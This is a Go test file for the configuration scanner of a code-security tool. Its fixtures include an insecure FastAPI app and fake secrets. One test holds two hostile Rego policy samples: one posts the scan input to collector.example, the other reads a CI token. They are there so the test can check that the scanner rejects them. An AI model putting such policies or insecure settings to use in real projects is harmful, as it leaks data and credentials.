package config

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/pipeguard/pipeguard/scan"
	"github.com/pipeguard/pipeguard/scan/target"
)

// gitRepo writes files into a new git repository and commits them.
func gitRepo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, src := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
			"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q", "-b", "main")
	git("add", "-A")
	git("commit", "-q", "-m", "fixture")
	return dir
}

func scanDir(t *testing.T, s *Scanner, root string) *scan.Result {
	t.Helper()
	res, err := s.Scan(context.Background(), &scan.Target{Root: root, Mode: scan.ModeTree, Tree: target.NewTree(root, 0)})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	for _, e := range res.Errors {
		t.Errorf("scan error: %s", e.Message)
	}
	return res
}

func locations(fs []scan.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+" "+f.Location())
	}
	sort.Strings(out)
	return out
}

const smallApp = `import os

from fastapi import FastAPI
from fastapi.middleware.cors import CORSMiddleware

app = FastAPI(debug=os.getenv("DEBUG", "false") == "true", docs_url=None, redoc_url=None, openapi_url=None)
app.add_middleware(
    CORSMiddleware,
    allow_origins=["*"],
    allow_credentials=True,
)

SECRET_KEY = "changeme-please"


@app.get("/health")
async def health():
    return {"ok": True}


@app.get("/items")
async def items():
    return []
`

func TestScanSmallRepository(t *testing.T) {
	root := gitRepo(t, map[string]string{
		"app/main.py":       smallApp,
		"app/broken.py":     "def oops(:\n    pass\n",
		".env":              "DEBUG=true\nSECRET_KEY=s3cr3t-value-42\n",
		".env.example":      "DEBUG=false\nSECRET_KEY=\n",
		"tests/test_app.py": "SECRET_KEY = \"test-secret-value\"\n",
	})
	s, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s.Name() != "config" {
		t.Errorf("Name = %q", s.Name())
	}
	res := scanDir(t, s, root)
	got := locations(res.Findings)
	want := []string{
		"cors-credentials-any-origin app/main.py:9",
		"debug-enabled .env:1",
		"env-file-committed .env:2",
		"hardcoded-secret app/main.py:13",
		"https-not-enforced app/main.py:6",
		"security-headers-missing app/main.py:6",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, f := range res.Findings {
		if f.Scanner != "config" || f.Title == "" || f.Fingerprint == "" || f.Severity.Rank() == 0 {
			t.Errorf("incomplete finding %+v", f)
		}
		if strings.Contains(f.Message, "changeme-please") {
			t.Errorf("finding quotes the secret in clear: %s", f.Message)
		}
	}
	var skipped []string
	for _, sk := range res.Skipped {
		skipped = append(skipped, sk.Path)
		if sk.Scanner != "config" || sk.Line == 0 {
			t.Errorf("skipped entry %+v lacks scanner or line", sk)
		}
	}
	if len(skipped) != 1 || skipped[0] != "app/broken.py" {
		t.Errorf("skipped = %v, want app/broken.py", skipped)
	}
}

func TestUserPoliciesAndDisabledRules(t *testing.T) {
	root := gitRepo(t, map[string]string{"app/main.py": smallApp})
	dir := t.TempDir()
	own := `# METADATA
# title: Health route must be GET
# custom:
#   id: acme-health-get
#   severity: info
package acme.rules.health

deny contains {"path": r.path, "line": r.line, "message": "health route"} if {
	some app in input.apps
	some r in app.routes
	r.url == "/health"
}
`
	if err := os.WriteFile(filepath.Join(dir, "health.rego"), []byte(own), 0o644); err != nil {
		t.Fatal(err)
	}
	s, err := New(Options{PolicyDirs: []string{dir}, Disabled: []string{"hardcoded-secret", "https-not-enforced", "security-headers-missing"}})
	if err != nil {
		t.Fatal(err)
	}
	got := locations(scanDir(t, s, root).Findings)
	want := []string{"acme-health-get app/main.py:17", "cors-credentials-any-origin app/main.py:9"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestRefusedUserPolicies(t *testing.T) {
	tests := map[string]struct{ src, want string }{
		"http.send":   {"deny contains {\"path\": \"a\", \"line\": 1, \"message\": r.raw_body} if {\n\tr := http.send({\"method\": \"POST\", \"url\": \"https://collector.example\", \"body\": input})\n}\n", "bad.rego:9: policy calls http.send"},
		"opa.runtime": {"deny contains {\"path\": \"a\", \"line\": 1, \"message\": opa.runtime().env.CI_TOKEN} if true\n", "bad.rego:8: policy calls opa.runtime"},
		"syntax":      {"deny contains f if {\n\tf := {\"path\": \"a\"\n", "bad.rego:"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			src := "# METADATA\n# title: bad\n# custom:\n#   id: bad\n#   severity: low\npackage acme.rules.bad\n\n" + tt.src
			if err := os.WriteFile(filepath.Join(dir, "bad.rego"), []byte(src), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := New(Options{PolicyDirs: []string{dir}})
			var ce *scan.ConfigError
			if !errors.As(err, &ce) {
				t.Fatalf("New: %v, want *scan.ConfigError", err)
			}
			if !strings.Contains(err.Error(), tt.want) || ce.Line == 0 {
				t.Errorf("error %q (line %d) does not name %q", err, ce.Line, tt.want)
			}
		})
	}
}

// TestUnattachedRoutesNote: routes on a router no app is found to include
// are not judged by the app-level route rules, and the result says so.
func TestUnattachedRoutesNote(t *testing.T) {
	s, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	included := "from fastapi import APIRouter, FastAPI\n\nrouter = APIRouter()\n\n\n@router.post(\"/items\")\ndef create():\n    return {}\n\n\napp = FastAPI()\napp.include_router(router)\n"
	orphan := "from fastapi import APIRouter\n\nrouter = APIRouter()\n\n\n@router.post(\"/items\")\ndef create():\n    return {}\n\n\n@router.delete(\"/items/{i}\")\ndef delete(i: int):\n    return {}\n"
	for _, tt := range []struct {
		name string
		src  string
		want string
	}{
		{"included", included, ""},
		{"orphan router", orphan, "config: 2 routes in 1 files are on routers no app was found to include"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res := scanDir(t, s, gitRepo(t, map[string]string{"app/routes.py": tt.src}))
			var got string
			for _, n := range res.Notes {
				if strings.Contains(n, "no app was found") {
					got = n
				}
			}
			if tt.want == "" && got != "" || !strings.HasPrefix(got, tt.want) {
				t.Errorf("note = %q, want %q", got, tt.want)
			}
		})
	}
}
